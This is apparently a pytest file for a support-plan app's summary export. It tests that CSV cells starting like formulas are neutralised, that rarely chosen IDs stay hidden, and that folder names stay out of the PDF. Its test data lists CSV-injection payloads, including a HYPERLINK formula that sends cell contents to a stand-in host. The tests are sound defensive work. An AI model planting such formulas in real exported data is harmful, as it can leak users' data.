"""The summary with other offices' plans in it (issue 12): formulas in the CSV, privacy, long lists."""

import csv
from datetime import date

from report_helpers import pdf_pages, squeeze

from supportguide_app.plan.session import Session
from supportguide_app.report.summary import export_summary_pdf, write_summary_csv
from supportguide_app.storage import aggregate_folder, save_session

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"詳しく")', "@SUM(1+1)", "+1+2", "-3+4",
            "\tTAB", "\rCR"]


def write(folder, plans):
    folder.mkdir(parents=True, exist_ok=True)
    for number, ids in enumerate(plans):
        s = Session(title=f"計画{number}", organisation="ひだまり市", date="2026-04-01")
        for item_id in ids:
            s.set_value(("selection", "methods", item_id, "selected"), True)
        save_session(s, folder / f"計画_{number}.json")


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path):
    write(tmp_path / "plans", [FORMULAS] * 3)
    path = write_summary_csv(aggregate_folder([tmp_path / "plans"]), tmp_path / "集計.csv")
    with open(path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))[1:]
    ids = {row[1] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in ids, formula  # Excel shows it as text, runs nothing
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_unknown_ids_with_hidden_counts_are_listed_nowhere(tmp_path):
    # 5 plans; X_山田さん個別 chosen by 1 (hidden as 3未満), X_共通 by 4 (shown)
    write(tmp_path / "plans", [["X_山田さん個別", "X_共通"]] + [["X_共通"]] * 3 + [[]])
    agg = aggregate_folder([tmp_path / "plans"])
    ids = [row.id for row in agg.rows["methods"]]
    assert "X_共通" in ids and "X_山田さん個別" not in ids
    csv_text = write_summary_csv(agg, tmp_path / "集計.csv").read_text(encoding="utf-8-sig")
    assert "X_山田さん個別" not in csv_text and "X_共通" in csv_text
    pdf_text = squeeze("".join(pdf_pages(export_summary_pdf(agg, tmp_path / "集計.pdf"))))
    assert "X_山田さん個別" not in pdf_text and "X_共通" in pdf_text


def test_the_summary_pdf_names_skipped_files_without_their_folders(tmp_path):
    folder = tmp_path / "yamada_hanako" / "相談記録"
    write(folder, [[]] * 3)
    (folder / "壊れた計画.json").write_text("{", encoding="utf-8")
    agg = aggregate_folder([folder])
    text = squeeze("".join(pdf_pages(export_summary_pdf(agg, tmp_path / "集計.pdf"))))
    assert "壊れた計画.json" in text
    assert "yamada_hanako" not in text and squeeze(str(tmp_path)) not in text


def test_a_long_list_of_unknown_ids_continues_over_pages(tmp_path):
    many = [f"X_LOCAL{i:03d}" for i in range(90)] + ["X_" + "長い名前" * 80]
    write(tmp_path / "plans", [many] * 3)
    agg = aggregate_folder([tmp_path / "plans"])
    path = export_summary_pdf(agg, tmp_path / "集計.pdf", today=date(2027, 3, 1))
    pages = pdf_pages(path)
    text = squeeze("".join(pages))
    assert len(pages) >= 3
    assert all(f"X_LOCAL{i:03d}" in text for i in range(90))
    assert "X_長い名前長い名前" in text and "…" in text  # the long label is shortened, not dropped
